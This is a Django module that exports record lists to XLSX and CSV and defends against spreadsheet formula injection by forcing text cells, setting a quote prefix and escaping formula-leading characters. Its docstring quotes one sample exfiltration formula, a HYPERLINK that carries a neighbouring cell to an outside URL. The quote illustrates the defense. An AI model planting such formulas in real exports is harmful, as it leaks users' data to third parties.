"""Every list exports to XLSX through this one function: a header row, typed cells (dates stay
dates, shown as 2026. 3. 5.), a frozen header and a Korean file name. Where people ask for CSV
(monitoring's extraction), `csv_response` writes the same rows under the same text rule.

Text is always written as a string cell, never as a formula. A title is typed by anyone (or by
another institution's sender, through exchange), and openpyxl would write a text starting with
"=" as a live formula: `=HYPERLINK("http://…"&B2,"열기")` in a 접수 list becomes a link that
carries the neighbouring cell away when the 문서과 clicks it. A string cell keeps the text exactly
as typed (our own imports read it back unchanged, where a leading apostrophe would become part of
the value); text that starts the way a formula does (the OWASP CSV-injection list: = + - @, tab,
CR) also gets Excel's quotePrefix, so it stays text even after someone edits the cell and presses
Enter, and the apostrophe is not shown.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import Any

from django.http import HttpResponse
from django.utils import timezone
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

from core.downloads import generated_download

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_DATE_FORMAT = 'yyyy". "m". "d"."'
_DATETIME_FORMAT = 'yyyy". "m". "d". "hh:mm'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(sheet: Any, text: str) -> WriteOnlyCell:
    # Control characters XML cannot carry (a pasted \x01, say) would make openpyxl refuse the whole
    # export; they become U+FFFD so the rest of the text is still there to read.
    text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def _cell(sheet: Any, value: object) -> WriteOnlyCell:
    if isinstance(value, str | Promise):
        return text_cell(sheet, str(value))
    if isinstance(value, datetime):
        local = timezone.localtime(value) if timezone.is_aware(value) else value
        cell = WriteOnlyCell(sheet, value=local.replace(tzinfo=None))
        cell.number_format = _DATETIME_FORMAT
        return cell
    if isinstance(value, date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = _DATE_FORMAT
        return cell
    return WriteOnlyCell(sheet, value="" if value is None else value)


def xlsx_bytes(*, title: str, headers: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    sheet.freeze_panes = "A2"
    header_cells = []
    for text in headers:
        cell = text_cell(sheet, str(text))
        cell.font = Font(bold=True)
        header_cells.append(cell)
    sheet.append(header_cells)
    for row in rows:
        sheet.append([_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(*, filename: str, title: str, headers: Sequence[str], rows: Iterable[Sequence]) -> HttpResponse:
    """`filename` without extension, Korean allowed (RFC 5987 encoded), dated today."""
    stamp = timezone.localdate().strftime("%Y%m%d")
    name = f"{filename}_{stamp}.xlsx"
    return generated_download(
        xlsx_bytes(title=title, headers=headers, rows=rows), filename=name, content_type=XLSX_TYPE
    )


CSV_TYPE = "text/csv; charset=utf-8"


def _csv_value(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        local = timezone.localtime(value) if timezone.is_aware(value) else value
        return local.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, str | Promise):
        text = str(value)
        # A CSV cell cannot say "this is text": a leading apostrophe keeps a formula-looking text
        # from running when the file is opened in a spreadsheet (OWASP CSV injection).
        return "'" + text if text.startswith(FORMULA_STARTS) else text
    return str(value)


def csv_response(*, filename: str, headers: Sequence[str], rows: Iterable[Sequence]) -> HttpResponse:
    """The rows as CSV (UTF-8 with a BOM, so Excel reads the Hangul; dates as 2026-03-05), dated
    today like the XLSX files."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([_csv_value(str(text)) for text in headers])
    for row in rows:
        writer.writerow([_csv_value(value) for value in row])
    stamp = timezone.localdate().strftime("%Y%m%d")
    return generated_download(
        buffer.getvalue().encode("utf-8"), filename=f"{filename}_{stamp}.csv", content_type=CSV_TYPE
    )
